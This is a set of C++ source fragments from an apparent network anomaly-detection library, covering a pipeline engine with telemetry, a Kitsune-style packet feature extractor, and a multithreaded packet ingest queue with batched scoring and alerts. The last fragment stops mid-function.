  telemetry::Registry& tel =
      opts_.registry != nullptr ? *opts_.registry : local_tel;
  const std::string op_prefix = opts_.instrument_prefix + "op.";
  telemetry::Counter& ops_run = tel.counter(opts_.instrument_prefix + "ops");
  telemetry::Gauge& live_gauge =
      tel.gauge(opts_.instrument_prefix + "live_bytes");
  telemetry::Gauge& peak_gauge =
      tel.gauge(opts_.instrument_prefix + "peak_bytes");

  // Last-use index per binding, for dead-value elimination.
  std::map<std::string, size_t> last_use;
  for (size_t i = 0; i < spec.ops.size(); ++i) {
    for (const std::string& in : spec.ops[i].inputs) last_use[in] = i;
  }
  const std::set<std::string> keep(opts_.keep.begin(), opts_.keep.end());

  PipelineReport report;
  std::map<std::string, Value> env;
  std::map<std::string, size_t> env_bytes;
  std::map<std::string, uint64_t> span_of_output;  // for freed-early patches
  size_t live_bytes = 0;

  if (seed != nullptr) {
    for (const auto& [name, value] : *seed) {
      const size_t bytes = value_bytes(value);
      env.emplace(name, value);
      env_bytes[name] = bytes;
      live_bytes += bytes;
    }
    report.peak_bytes = std::max(report.peak_bytes, live_bytes);
  }

  for (size_t i = 0; i < spec.ops.size(); ++i) {
    const OpSpec& op = spec.ops[i];
    Result<OperationPtr> inst = reg.create(op);
    if (!inst.ok()) return inst.error();

    std::vector<const Value*> inputs;
    inputs.reserve(op.inputs.size());
    for (const std::string& name : op.inputs) {
      auto it = env.find(name);
      if (it == env.end()) {
        return Error::make("engine", "op #" + std::to_string(i) +
                                         ": input '" + name +
                                         "' was freed or never produced");
      }
      inputs.push_back(&it->second);
    }

    // One span per op: wall time covers exactly the operation body; bytes
    // are annotated after stop() so they don't count against the clock.
    telemetry::Span span(&tel, op_prefix + op.func, op.output);
    Result<Value> out = inst.value()->run(inputs, ctx);
    span.stop();
    if (!out.ok()) {
      return Error::make("engine", "op #" + std::to_string(i) + " ('" +
                                       op.func + "'): " + out.error().message);
    }

    const size_t output_bytes = value_bytes(out.value());
    span.set_value(output_bytes);
    report.span_ids.push_back(span.id());
    span_of_output[op.output] = span.id();
    ops_run.add(1);

    // Rebinding replaces the old value.
    if (auto it = env.find(op.output); it != env.end()) {
      live_bytes -= env_bytes[op.output];
      env.erase(it);
    }
    live_bytes += output_bytes;
    env_bytes[op.output] = output_bytes;
    env.emplace(op.output, std::move(out).value());
    report.peak_bytes = std::max(report.peak_bytes, live_bytes);

    // Free bindings whose last consumer has now run.
    if (opts_.free_dead_values) {
      for (auto it = env.begin(); it != env.end();) {
        const std::string& name = it->first;
        auto lu = last_use.find(name);
        const bool consumed_out = lu != last_use.end() && lu->second <= i;
        const bool never_used = lu == last_use.end();
        if (consumed_out && !never_used && keep.count(name) == 0 &&
            name != op.output) {
          live_bytes -= env_bytes[name];
          if (auto sp = span_of_output.find(name);
              sp != span_of_output.end()) {
            tel.set_span_flag(sp->second, true);
          }
          it = env.erase(it);
        } else {
          ++it;
        }
      }
    }
    live_gauge.set(static_cast<double>(live_bytes));
    peak_gauge.update_max(static_cast<double>(report.peak_bytes));
  }

  // The report's profile is a view over the telemetry snapshot: same span
  // records a scraper of `tel` sees, keyed by this run's span ids.
  report.profile =
      profile_from_spans(tel.snapshot(), report.span_ids, op_prefix);
  report.bindings = std::move(env);
  return report;
}

std::string render_op_profile(const std::vector<OpProfile>& profile,
                              size_t peak_bytes) {
  std::string out =
      "op                    output                time(ms)   out_bytes  freed\n";
  char line[160];
  for (const OpProfile& p : profile) {
    std::snprintf(line, sizeof(line), "%-21s %-21s %9.3f %11zu  %s\n",
                  p.func.c_str(), p.output.c_str(), p.seconds * 1e3,
                  p.output_bytes, p.freed_early ? "yes" : "no");
    out += line;
  }
  std::snprintf(line, sizeof(line), "peak resident: %zu bytes\n", peak_bytes);
  out += line;
  return out;
}

std::string PipelineReport::profile_table() const {
  return render_op_profile(profile, peak_bytes);
}

Engine::Options Engine::Options::normalized(Options opts,
                                            std::string* diagnostic) {
  OptionNormalizer norm("engine");
  norm.default_if_empty(opts.instrument_prefix, "instrument_prefix", "engine.");
  std::vector<std::string> unique;
  unique.reserve(opts.keep.size());
  for (std::string& name : opts.keep) {
    if (std::find(unique.begin(), unique.end(), name) == unique.end()) {
      unique.push_back(std::move(name));
    }
  }
  size_t keep_count = opts.keep.size();
  norm.replace(keep_count, unique.size(), "keep",
               std::to_string(opts.keep.size()) + " names",
               std::to_string(unique.size()) + " unique");
  opts.keep = std::move(unique);
  norm.emit(diagnostic);
  return opts;
}

}  // namespace lumen::core
