#include "core/kitsune_extractor.h"

namespace lumen::core {

namespace {

/// 48-bit MAC packed into the low bytes of a uint64 (big-endian order, so
/// distinct MACs map to distinct keys).
uint64_t pack_mac(const netio::MacAddr& m) {
  uint64_t k = 0;
  for (uint8_t b : m) k = (k << 8) | b;
  return k;
}

}  // namespace

KitsuneExtractor::KitsuneExtractor(std::vector<double> lambdas,
                                   size_t max_contexts)
    : lambdas_(std::move(lambdas)), max_contexts_(max_contexts) {
  if (lambdas_.empty()) lambdas_ = {5.0, 3.0, 1.0, 0.1, 0.01};
  for (size_t li = 1; li < lambdas_.size(); ++li) {
    if (lambdas_[li] < lambdas_[slow_]) slow_ = li;
  }
  mac_.configure(lambdas_.size());
  src_.configure(lambdas_.size());
  chan_.configure(lambdas_.size());
  sock_.configure(lambdas_.size());
  for (double l : lambdas_) {
    const std::string s = "l" + std::to_string(l).substr(0, 4);
    for (const char* ctx_name : {"mac", "src", "chan", "sock"}) {
      names_.push_back(s + "_" + ctx_name + "_w");
      names_.push_back(s + "_" + ctx_name + "_mean");
      names_.push_back(s + "_" + ctx_name + "_std");
    }
    for (const char* p : {"chan", "sock"}) {
      names_.push_back(s + "_" + p + "_mag");
      names_.push_back(s + "_" + p + "_rad");
      names_.push_back(s + "_" + p + "_cov");
      names_.push_back(s + "_" + p + "_pcc");
    }
    names_.push_back(s + "_jit_w");
    names_.push_back(s + "_jit_mean");
    names_.push_back(s + "_jit_std");
  }
}

void KitsuneExtractor::process(const netio::PacketView& v,
                               std::vector<double>& out) {
  if (out.size() != dim()) out.resize(dim());
  const size_t levels = lambdas_.size();
  const double size = v.wire_len;
  const double ts = v.ts;

  const auto make_stat = [this](size_t li) {
    return features::DampedStat(lambdas_[li]);
  };
  features::DampedStat* mac = mac_.find_or_create(pack_mac(v.src_mac),
                                                  make_stat);

  if (!v.has_ip) {
    // Non-IP frame (ARP / 802.11): only the MAC context applies. Every
    // other slot must read as zero, and the historic 17-slot skip width of
    // the reference implementation is preserved (kitsune_extractor_ref.h).
    std::fill(out.begin(), out.end(), 0.0);
    size_t c = 0;
    for (size_t li = 0; li < levels; ++li) {
      features::DampedStat& m = mac[li];
      m.insert(size, ts);
      out[c++] = m.weight();
      out[c++] = m.mean();
      out[c++] = m.stddev();
      c += 17;
    }
    maybe_evict(ts);
    return;
  }

  // Canonical channel/socket keys; dir 0 when src <= dst, and the port
  // pair follows the IP comparison (the smaller endpoint's port first),
  // exactly as the reference string keys were built.
  const bool fwd = v.src_ip <= v.dst_ip;
  const uint32_t ip_a = fwd ? v.src_ip : v.dst_ip;
  const uint32_t ip_b = fwd ? v.dst_ip : v.src_ip;
  const uint64_t chan_key = (uint64_t{ip_a} << 32) | ip_b;
  const uint16_t port_a = fwd ? v.src_port : v.dst_port;
  const uint16_t port_b = fwd ? v.dst_port : v.src_port;
  const Key128 sock_key{chan_key, (uint64_t{port_a} << 16) | port_b};
  const int dir = fwd ? 0 : 1;

  features::DampedStat* src = src_.find_or_create(uint64_t{v.src_ip},
                                                  make_stat);
  ChanState* chan = chan_.find_or_create(chan_key, [this](size_t li) {
    return ChanState{features::DampedStat2D(lambdas_[li]),
                     features::DampedStat(lambdas_[li])};
  });
  features::DampedStat2D* sock =
      sock_.find_or_create(sock_key, [this](size_t li) {
        return features::DampedStat2D(lambdas_[li]);
      });

  size_t c = 0;
  for (size_t li = 0; li < levels; ++li) {
    features::DampedStat& m = mac[li];
    m.insert(size, ts);
    out[c++] = m.weight();
    out[c++] = m.mean();
    out[c++] = m.stddev();

    features::DampedStat& s = src[li];
    s.insert(size, ts);
    out[c++] = s.weight();
    out[c++] = s.mean();
    out[c++] = s.stddev();

    ChanState& ch = chan[li];
    ch.chan.insert(dir, size, ts);
    const features::DampedStat& cd = fwd ? ch.chan.a() : ch.chan.b();
    out[c++] = cd.weight();
    out[c++] = cd.mean();
    out[c++] = cd.stddev();

    features::DampedStat2D& so = sock[li];
    so.insert(dir, size, ts);
    const features::DampedStat& sd = fwd ? so.a() : so.b();
    out[c++] = sd.weight();
    out[c++] = sd.mean();
    out[c++] = sd.stddev();

    out[c++] = ch.chan.magnitude();
    out[c++] = ch.chan.radius();
    out[c++] = ch.chan.covariance();
    out[c++] = ch.chan.pcc();
    out[c++] = so.magnitude();
    out[c++] = so.radius();
    out[c++] = so.covariance();
    out[c++] = so.pcc();

    if (ch.has_last) {
      ch.jitter.insert(ts - ch.last_seen, ts);
      ch.last_seen = ts;
    } else {
      ch.last_seen = ts;
      ch.has_last = true;
    }
    out[c++] = ch.jitter.weight();
    out[c++] = ch.jitter.mean();
    out[c++] = ch.jitter.stddev();
  }
  maybe_evict(ts);
}

void KitsuneExtractor::maybe_evict(double now) {
  if (max_contexts_ == 0) return;
  // Evict down to 3/4 of the cap so GC runs rarely, keeping the contexts
  // with the highest slowest-lambda weight decayed to `now` (a balance of
  // recency and activity; brand-new contexts have weight ~1 and survive).
  const size_t keep = std::max<size_t>(1, max_contexts_ * 3 / 4);
  const auto stat_score = [this, now](const features::DampedStat* block) {
    features::DampedStat d = block[slow_];
    d.decay(now);
    return d.weight();
  };
  if (mac_.size() > max_contexts_) mac_.evict(keep, stat_score);
  if (src_.size() > max_contexts_) src_.evict(keep, stat_score);
  if (chan_.size() > max_contexts_) {
    chan_.evict(keep, [this, now](const ChanState* block) {
      features::DampedStat a = block[slow_].chan.a();
      features::DampedStat b = block[slow_].chan.b();
      a.decay(now);
      b.decay(now);
      return a.weight() + b.weight();
    });
  }
  if (sock_.size() > max_contexts_) {
    sock_.evict(keep, [this, now](const features::DampedStat2D* block) {
      features::DampedStat a = block[slow_].a();
      features::DampedStat b = block[slow_].b();
      a.decay(now);
      b.decay(now);
      return a.weight() + b.weight();
    });
  }
}

size_t KitsuneExtractor::tracked_contexts() const {
  // Matches the reference accounting: per lambda, one statistic each for
  // mac/src/sock plus two per channel (the 2D stat and the jitter stat).
  return lambdas_.size() *
         (mac_.size() + src_.size() + 2 * chan_.size() + sock_.size());
}

KitsuneExtractor::ContextCounts KitsuneExtractor::context_counts() const {
  return ContextCounts{mac_.size(), src_.size(), chan_.size(), sock_.size()};
}

void KitsuneExtractor::reset() {
  mac_.clear();
  src_.clear();
  chan_.clear();
  sock_.clear();
}

}  // namespace lumen::core
