#include "core/ingest.h"

#include <chrono>
#include <exception>
#include <thread>
#include <utility>

#include "core/stream_op.h"
#include "netio/parse.h"

namespace lumen::core {

BoundedPacketQueue::BoundedPacketQueue(size_t capacity, OverflowPolicy policy)
    : capacity_(capacity == 0 ? 1 : capacity), policy_(policy) {}

bool BoundedPacketQueue::push(netio::SourcePacket p) {
  std::unique_lock<std::mutex> lock(mu_);
  if (policy_ == OverflowPolicy::kBlock) {
    not_full_.wait(lock,
                   [this] { return q_.size() < capacity_ || closed_; });
    if (closed_) return false;
  } else if (q_.size() >= capacity_) {
    if (closed_) return false;
    q_.pop_front();
    ++dropped_;
    if (dropped_counter_ != nullptr) dropped_counter_->add(1);
  } else if (closed_) {
    return false;
  }
  const bool was_empty = q_.empty();
  q_.push_back(std::move(p));
  high_water_ = std::max(high_water_, q_.size());
  note_size_locked();
  lock.unlock();
  // Consumers only sleep on an empty queue, so only the empty->non-empty
  // transition needs a wakeup; steady-state pushes skip the notify.
  if (was_empty) not_empty_.notify_one();
  return true;
}

bool BoundedPacketQueue::pop(netio::SourcePacket& out) {
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return false;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  out = std::move(q_.front());
  q_.pop_front();
  note_size_locked();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  if (was_full) not_full_.notify_one();
  if (still_nonempty) not_empty_.notify_one();
  return true;
}

size_t BoundedPacketQueue::pop_batch(std::vector<netio::SourcePacket>& out,
                                     size_t max) {
  out.clear();
  if (max == 0) max = 1;
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return 0;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  const size_t n = std::min(max, q_.size());
  for (size_t i = 0; i < n; ++i) {
    out.push_back(std::move(q_.front()));
    q_.pop_front();
  }
  note_size_locked();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  // A blocked producer only waits while the queue is at capacity.
  if (was_full) not_full_.notify_one();
  // If packets remain, another consumer can run concurrently; hand the
  // wakeup on since push() only notifies on the empty->non-empty edge.
  if (still_nonempty) not_empty_.notify_one();
  return n;
}

void BoundedPacketQueue::close() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    closed_ = true;
  }
  not_full_.notify_all();
  not_empty_.notify_all();
}

void BoundedPacketQueue::attach_telemetry(telemetry::Gauge* depth,
                                          telemetry::Gauge* high_water,
                                          telemetry::Counter* dropped) {
  std::lock_guard<std::mutex> lock(mu_);
  depth_gauge_ = depth;
  high_water_gauge_ = high_water;
  dropped_counter_ = dropped;
  note_size_locked();
}

void BoundedPacketQueue::note_size_locked() {
  if (depth_gauge_ != nullptr) {
    depth_gauge_->set(static_cast<double>(q_.size()));
  }
  if (high_water_gauge_ != nullptr) {
    high_water_gauge_->update_max(static_cast<double>(high_water_));
  }
}

uint64_t BoundedPacketQueue::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

size_t BoundedPacketQueue::high_water() const {
  std::lock_guard<std::mutex> lock(mu_);
  return high_water_;
}

IngestRuntime::IngestRuntime(Options opts, ScorerFactory factory,
                             AlertSink* sink)
    : opts_(std::move(opts)), factory_(std::move(factory)), sink_(sink) {
  if (opts_.consumers == 0) opts_.consumers = 1;
  if (opts_.consumer_batch == 0) opts_.consumer_batch = 1;
  if (opts_.score_batch == 0) opts_.score_batch = 1;
  // Core accounting always lives in registry counters (the IngestStats
  // façade reads them back); the extended instruments — queue gauges and
  // per-stage latency histograms, with their clock reads — only run when
  // the embedder gave us a registry to publish into.
  extended_ = opts_.registry != nullptr;
  reg_ = extended_ ? opts_.registry : &local_reg_;
  const std::string& p = opts_.instrument_prefix;
  enqueued_ = &reg_->counter(p + "enqueued");
  dropped_ = &reg_->counter(p + "dropped");
  parse_skipped_ = &reg_->counter(p + "parse_skipped");
  scored_ = &reg_->counter(p + "scored");
  alerted_ = &reg_->counter(p + "alerted");
  if (extended_) {
    queue_depth_ = &reg_->gauge(p + "queue.depth");
    queue_high_water_ = &reg_->gauge(p + "queue.high_water");
    extract_ns_ = &reg_->histogram(p + "stage.extract_ns");
    score_ns_ = &reg_->histogram(p + "stage.score_ns");
    flush_ns_ = &reg_->histogram(p + "stage.flush_ns");
    score_batch_rows_ = &reg_->histogram(p + "score.batch_rows");
  }
  // stats() before the first run() must read zero even when another
  // runtime already bumped these (shared registry, shared prefix).
  base_ = Baseline{enqueued_->value(), dropped_->value(),
                   parse_skipped_->value(), scored_->value(),
                   alerted_->value()};
}

IngestRuntime::IngestRuntime(Options opts, StreamPipelineFactory factory,
                             EpochSink* sink)
    : IngestRuntime(std::move(opts), ScorerFactory{}, nullptr) {
  pipeline_factory_ = std::move(factory);
  epoch_sink_ = sink;
}

void IngestRuntime::consume(size_t id, BoundedPacketQueue& queue,
                            PacketScorer& scorer, netio::LinkType link) {
  // Everything below is consumer-local until the per-batch flush: packets
  // are claimed in batches (one queue lock per batch), scored without any
  // shared state, and sink records plus stats counters are published once
  // per batch. Buffers are reused across batches, so the steady-state loop
  // performs no allocation. Telemetry is also per-batch — four clock reads
  // and a handful of relaxed adds per batch, never per packet.
  using Clock = std::chrono::steady_clock;
  const auto ns_between = [](Clock::time_point a, Clock::time_point b) {
    return std::chrono::duration<double, std::nano>(b - a).count();
  };
  struct Scored {
    netio::PacketView view;
    double score = 0.0;
    double threshold = 0.0;
    bool alerted = false;
  };
  std::vector<netio::SourcePacket> batch;
  std::vector<netio::PacketView> parsed;
  std::vector<double> scores;
  std::vector<Scored> pending;
  batch.reserve(opts_.consumer_batch);
  parsed.reserve(opts_.consumer_batch);
  scores.reserve(opts_.consumer_batch);
  pending.reserve(opts_.consumer_batch);
  while (queue.pop_batch(batch, opts_.consumer_batch) > 0) {
    uint64_t skipped = 0, scored = 0, alerted = 0;
    Clock::time_point t0, t1, t2;
    // Stage 1 — extract: parse the whole batch (views borrow the packet
    // bytes in `batch`, which outlives the flush below).
    if (extended_) t0 = Clock::now();
    parsed.clear();
    for (netio::SourcePacket& sp : batch) {
      auto p = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!p.ok()) {
        ++skipped;
        continue;
      }
      parsed.push_back(p.value());
    }
    if (extended_) t1 = Clock::now();
    // Stage 2 — score, in consumption order (scorer state is per-consumer).
    // The claimed batch is scored in score_batch-row micro-batches through
    // the fused PacketScorer::score_batch path; per-packet alert ordering
    // is preserved because scores land positionally in `scores` and the
    // alert/sink pass below walks them in consumption order. A tail chunk
    // is just a smaller micro-batch — the batch-invariance contract makes
    // its scores identical either way.
    scores.resize(parsed.size());
    for (size_t lo = 0; lo < parsed.size(); lo += opts_.score_batch) {
      const size_t n = std::min(opts_.score_batch, parsed.size() - lo);
      scorer.score_batch(
          std::span<const netio::PacketView>(parsed.data() + lo, n),
          scores.data() + lo);
      if (extended_) score_batch_rows_->record(static_cast<double>(n));
    }
    const double threshold = scorer.threshold();
    for (size_t i = 0; i < parsed.size(); ++i) {
      const netio::PacketView& view = parsed[i];
      const double score = scores[i];
      const bool is_alert = score > threshold;
      ++scored;
      if (is_alert) ++alerted;
      if (sink_ != nullptr) {
        pending.push_back(Scored{view, score, threshold, is_alert});
      }
    }
    if (extended_) t2 = Clock::now();
    if (skipped != 0) parse_skipped_->add(skipped);
    if (scored != 0) scored_->add(scored);
    if (alerted != 0) alerted_->add(alerted);
    // Stage 3 — flush the batch's sink records.
    if (!pending.empty()) {
      std::lock_guard<std::mutex> lock(sink_mu_);
      for (const Scored& p : pending) {
        sink_->on_packet(p.view, p.score, p.alerted);
        if (p.alerted) {
          sink_->on_alert(Alert{p.view.ts, p.view.index, p.score,
                                p.threshold, id});
        }
      }
    }
    pending.clear();
    if (extended_) {
      const Clock::time_point t3 = Clock::now();
      // extract/score samples are the batch's mean per-packet cost; flush
      // is the whole batch's sink hand-off (it is per-batch by design).
      if (!batch.empty()) {
        extract_ns_->record(ns_between(t0, t1) /
                            static_cast<double>(batch.size()));
      }
      if (!parsed.empty()) {
        score_ns_->record(ns_between(t1, t2) /
                          static_cast<double>(parsed.size()));
      }
      flush_ns_->record(ns_between(t2, t3));
    }
  }
}

void IngestRuntime::consume_pipeline(size_t id, BoundedPacketQueue& queue,
                                     StreamPipeline& pipe,
                                     netio::LinkType link) {
  // Same staged batch loop as consume(), but the scoring stage feeds the
  // compiled operator chain: the chain's own state machinery (group
  // directories, window clocks, accumulators) replaces the PacketScorer.
  // Epoch emission happens synchronously inside pipe.push/finish via the
  // callback installed in run(); everything else is consumer-local.
  using Clock = std::chrono::steady_clock;
  const auto ns_between = [](Clock::time_point a, Clock::time_point b) {
    return std::chrono::duration<double, std::nano>(b - a).count();
  };
  std::vector<netio::SourcePacket> batch;
  std::vector<netio::PacketView> parsed;
  batch.reserve(opts_.consumer_batch);
  parsed.reserve(opts_.consumer_batch);
  while (queue.pop_batch(batch, opts_.consumer_batch) > 0) {
    uint64_t skipped = 0;
    Clock::time_point t0, t1, t2;
    if (extended_) t0 = Clock::now();
    parsed.clear();
    for (netio::SourcePacket& sp : batch) {
      auto p = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!p.ok()) {
        ++skipped;
        continue;
      }
      parsed.push_back(p.value());
    }
    if (extended_) t1 = Clock::now();
    for (const netio::PacketView& view : parsed) pipe.push(view);
    if (extended_) t2 = Clock::now();
    if (skipped != 0) parse_skipped_->add(skipped);
    if (!parsed.empty()) scored_->add(parsed.size());
    if (extended_) {
      if (!batch.empty()) {
        extract_ns_->record(ns_between(t0, t1) /
                            static_cast<double>(batch.size()));
      }
      if (!parsed.empty()) {
        score_ns_->record(ns_between(t1, t2) /
                          static_cast<double>(parsed.size()));
      }
    }
  }
  // End of stream: flush the chain's open windows/micro-batches.
  pipe.finish();
}

Result<IngestStats> IngestRuntime::drive(
    netio::PacketSource& source,
    const std::function<void(size_t, BoundedPacketQueue&, netio::LinkType)>&
        consumer_body) {
  // Per-run façade semantics over cumulative instruments: re-baseline now.
  base_ = Baseline{enqueued_->value(), dropped_->value(),
                   parse_skipped_->value(), scored_->value(),
                   alerted_->value()};
  high_water_snapshot_ = 0;
  stop_.store(false);

  BoundedPacketQueue queue(opts_.queue_capacity, opts_.overflow);
  if (extended_) {
    // The queue gauges describe THIS run's queue: reset them before
    // attaching, or a reused runtime (or a second runtime sharing the
    // registry and prefix) keeps publishing the previous run's high-water
    // mark — update_max never comes back down on its own.
    queue_depth_->set(0.0);
    queue_high_water_->set(0.0);
    // Live queue instruments: depth, high-water, and drops update under
    // the queue's own lock, so scrapers see them mid-run (the historic
    // snapshots only materialized after run() returned).
    queue.attach_telemetry(queue_depth_, queue_high_water_, dropped_);
  }
  const netio::LinkType link = source.link();

  // Consumers follow the parallel.h exception convention: the first failure
  // is captured and rethrown on the caller once every thread has joined.
  std::vector<std::exception_ptr> errors(opts_.consumers);
  std::vector<std::thread> threads;
  threads.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    threads.emplace_back([c, &queue, &errors, link, &consumer_body] {
      try {
        consumer_body(c, queue, link);
      } catch (...) {
        errors[c] = std::current_exception();
        queue.close();  // don't leave the producer blocked on a dead run
      }
    });
  }

  // Producer loop on the calling thread.
  netio::SourcePacket sp;
  while (!stop_.load(std::memory_order_relaxed) && source.next(sp)) {
    if (!queue.push(std::move(sp))) break;  // closed: consumer died or stop
    enqueued_->add(1);
  }
  queue.close();
  for (auto& t : threads) t.join();

  // With attached telemetry the queue streamed drops into the counter
  // live; otherwise fold them in now.
  if (!extended_) dropped_->add(queue.dropped());
  high_water_snapshot_ = queue.high_water();
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  return stats();
}

Result<IngestStats> IngestRuntime::run(netio::PacketSource& source) {
  if (pipeline_factory_) {
    std::vector<std::unique_ptr<StreamPipeline>> pipes;
    pipes.reserve(opts_.consumers);
    for (size_t c = 0; c < opts_.consumers; ++c) {
      pipes.push_back(pipeline_factory_(c));
      if (!pipes.back()) {
        return Error::make(
            "ingest",
            "pipeline factory returned null for consumer " + std::to_string(c));
      }
      pipes.back()->set_callback([this, c](EpochBatch&& b) {
        uint64_t alerts = 0;
        for (const int p : b.predictions) alerts += p != 0 ? 1 : 0;
        if (alerts != 0) alerted_->add(alerts);
        if (epoch_sink_ != nullptr) {
          std::lock_guard<std::mutex> lock(sink_mu_);
          epoch_sink_->on_epoch(b, c);
        }
      });
    }
    return drive(source,
                 [this, &pipes](size_t id, BoundedPacketQueue& q,
                                netio::LinkType link) {
                   consume_pipeline(id, q, *pipes[id], link);
                 });
  }

  std::vector<std::unique_ptr<PacketScorer>> scorers;
  scorers.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    scorers.push_back(factory_(c));
    if (!scorers.back()) {
      return Error::make("ingest", "scorer factory returned null for consumer " +
                                       std::to_string(c));
    }
  }
  return drive(source,
               [this, &scorers](size_t id, BoundedPacketQueue& q,
                                netio::LinkType link) {
                 consume(id, q, *scorers[id], link);
               });
}

IngestStats IngestRuntime::stats() const {
  IngestStats s;
  s.enqueued = enqueued_->value() - base_.enqueued;
  s.dropped = dropped_->value() - base_.dropped;
  s.parse_skipped = parse_skipped_->value() - base_.parse_skipped;
  s.scored = scored_->value() - base_.scored;
  s.alerted = alerted_->value() - base_.alerted;
  s.queue_high_water = high_water_snapshot_;
  return s;
}

}  // namespace lumen::core
