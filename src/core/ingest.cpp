#include "core/ingest.h"

#include <algorithm>
#include <chrono>
#include <exception>
#include <iostream>
#include <stdexcept>
#include <string>
#include <thread>
#include <utility>

#include "common/flat_map.h"
#include "common/options.h"
#include "common/spsc_ring.h"
#include "core/stream_op.h"
#include "netio/parse.h"

namespace lumen::core {

const char* overflow_policy_name(OverflowPolicy p) {
  switch (p) {
    case OverflowPolicy::kBlock:
      return "kBlock";
    case OverflowPolicy::kDropOldest:
      return "kDropOldest";
    case OverflowPolicy::kDropNewest:
      return "kDropNewest";
  }
  return "unknown";
}

BoundedPacketQueue::BoundedPacketQueue(size_t capacity, OverflowPolicy policy)
    : capacity_(capacity == 0 ? 1 : capacity), policy_(policy) {}

netio::FeedStatus BoundedPacketQueue::offer(netio::SourcePacket&& p) {
  std::unique_lock<std::mutex> lock(mu_);
  if (closed_) return netio::FeedStatus::kClosed;
  bool evicted = false;
  if (q_.size() >= capacity_) {
    switch (policy_) {
      case OverflowPolicy::kBlock:
        return netio::FeedStatus::kBusy;  // p untouched; caller waits
      case OverflowPolicy::kDropOldest:
        q_.pop_front();
        note_drop_locked();
        evicted = true;  // enqueue p in the freed slot below
        break;
      case OverflowPolicy::kDropNewest:
        note_drop_locked();
        return netio::FeedStatus::kShed;  // p discarded
    }
  }
  const bool was_empty = q_.empty();
  q_.push_back(std::move(p));
  high_water_ = std::max(high_water_, q_.size());
  note_size_locked();
  lock.unlock();
  // Consumers only sleep on an empty queue, so only the empty->non-empty
  // transition needs a wakeup; steady-state pushes skip the notify.
  if (was_empty) not_empty_.notify_one();
  return evicted ? netio::FeedStatus::kShed : netio::FeedStatus::kAccepted;
}

bool BoundedPacketQueue::wait_notfull() {
  std::unique_lock<std::mutex> lock(mu_);
  not_full_.wait(lock, [this] { return q_.size() < capacity_ || closed_; });
  return !closed_;
}

bool BoundedPacketQueue::push(netio::SourcePacket p) {
  for (;;) {
    switch (offer(std::move(p))) {
      case netio::FeedStatus::kAccepted:
      case netio::FeedStatus::kShed:
        return true;
      case netio::FeedStatus::kClosed:
        return false;
      case netio::FeedStatus::kBusy:
        if (!wait_notfull()) return false;
        break;  // room appeared (or raced away): retry the offer
    }
  }
}

bool BoundedPacketQueue::pop(netio::SourcePacket& out) {
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return false;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  out = std::move(q_.front());
  q_.pop_front();
  note_size_locked();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  if (was_full) not_full_.notify_one();
  if (still_nonempty) not_empty_.notify_one();
  return true;
}

size_t BoundedPacketQueue::pop_batch(std::vector<netio::SourcePacket>& out,
                                     size_t max) {
  out.clear();
  if (max == 0) max = 1;
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return 0;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  const size_t n = std::min(max, q_.size());
  for (size_t i = 0; i < n; ++i) {
    out.push_back(std::move(q_.front()));
    q_.pop_front();
  }
  note_size_locked();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  // A blocked producer only waits while the queue is at capacity.
  if (was_full) not_full_.notify_one();
  // If packets remain, another consumer can run concurrently; hand the
  // wakeup on since push() only notifies on the empty->non-empty edge.
  if (still_nonempty) not_empty_.notify_one();
  return n;
}

void BoundedPacketQueue::close() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    closed_ = true;
  }
  not_full_.notify_all();
  not_empty_.notify_all();
}

void BoundedPacketQueue::attach_telemetry(telemetry::Gauge* depth,
                                          telemetry::Gauge* high_water,
                                          telemetry::Counter* dropped) {
  std::lock_guard<std::mutex> lock(mu_);
  depth_gauge_ = depth;
  high_water_gauge_ = high_water;
  dropped_counter_ = dropped;
  // Catch the mirror up with drops that predate attachment; from here on
  // note_drop_locked keeps counter and dropped_ in lockstep. Without this,
  // pre-attach drops were lost from the mirror for good and dropped() and
  // the counter disagreed for the rest of the queue's life.
  if (dropped_counter_ != nullptr && mirrored_dropped_ < dropped_) {
    dropped_counter_->add(dropped_ - mirrored_dropped_);
    mirrored_dropped_ = dropped_;
  }
  note_size_locked();
}

void BoundedPacketQueue::note_size_locked() {
  if (depth_gauge_ != nullptr) {
    depth_gauge_->set(static_cast<double>(q_.size()));
  }
  if (high_water_gauge_ != nullptr) {
    high_water_gauge_->update_max(static_cast<double>(high_water_));
  }
}

void BoundedPacketQueue::note_drop_locked() {
  // Counter bump and dropped_ increment share the critical section of the
  // drop itself, so a scraper can never observe the mirror ahead of the
  // authoritative count (it may lag by at most the in-flight push).
  ++dropped_;
  if (dropped_counter_ != nullptr) {
    dropped_counter_->add(1);
    ++mirrored_dropped_;
  }
}

uint64_t BoundedPacketQueue::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

size_t BoundedPacketQueue::high_water() const {
  std::lock_guard<std::mutex> lock(mu_);
  return high_water_;
}

uint64_t FlowShardRouter::flow_hash(const netio::RawPacket& pkt) const {
  const uint8_t* b = pkt.data.data();
  const size_t n = pkt.data.size();
  const auto be16 = [b](size_t off) {
    return (uint64_t{b[off]} << 8) | b[off + 1];
  };
  const auto be32 = [b](size_t off) {
    return (uint32_t{b[off]} << 24) | (uint32_t{b[off + 1]} << 16) |
           (uint32_t{b[off + 2]} << 8) | b[off + 3];
